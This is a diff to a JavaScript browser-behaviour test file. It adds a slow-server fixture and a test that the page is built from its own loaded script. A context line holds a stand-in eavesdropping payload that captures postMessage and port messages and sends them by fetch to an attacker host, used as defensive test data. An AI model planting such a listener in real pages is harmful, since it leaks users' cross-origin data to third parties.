@@ -17,6 +17,7 @@ const [APP, EAR] = ['signedin.example', 'ear.example'];
 const EAR_SCRIPT = `const tell = (what) => fetch('http://${HOSTS.attacker}/c/heard?d=' + encodeURIComponent(what), { mode: 'no-cors' });
 onmessage = ({ data, ports: [port] }) => { tell(data); if (port) port.onmessage = (event) => tell(event.data); };
 parent.postMessage('listening', '*');`;
+const [SLOW, SLOW_CODE] = ['slow.example', 'slow-code.example'];
 const ELSEWHERE = 'elsewhere.example';
 const ATTACKER = `http://${HOSTS.attacker}`;
 /** Later than any document is fresh. */
@@ -52,6 +53,15 @@ const extra = {
       name: 'App',
       body: raw(`<a href="/logout">Sign out</a><p>Plan: Harbour 7</p><script src="http://${PAY}/sdk.js"></script>`),
     }),
+  [SLOW]: async () => {
+    await new Promise((later) => setTimeout(later, STALE_MS));
+    return page({
+      title: 'Slow',
+      name: 'Slow',
+      body: raw(`<p>bare</p><script src="http://${SLOW_CODE}/made.js"></script>`),
+    });
+  },
+  [SLOW_CODE]: () => file('text/javascript', "document.querySelector('p').textContent = 'made of its code'", open),
   [PAY_API]: () => json({}, open),
   [PAY_CODE]: () => file('text/javascript', PAY_SCRIPT, open),
   [ELSEWHERE]: () => json([], open),
@@ -81,6 +91,15 @@ describe('after a private read at the bank, where nobody is signed in', () => {
     await hands.click({ button: 'Search' });
     await until(async () => (await hands.read()).includes('nine'), 'what the interface said');
     await until(async () => (await hands.run(LOADED)) === 2, 'pictures that a script wrote');
+  });
+
+  test('a page whose server takes its time is made of what it loads, also where another one was left for it', {
+    timeout: 60_000,
+  }, async () => {
+    const { hands } = scene;
+    await hands.goto(`http://${TRAINS}/`);
+    await hands.goto(`http://${SLOW}/`);
+    await until(async () => (await hands.read()).includes('made of its code'), 'its code');
   });
 
   for (const host of [TRAINS, APP])
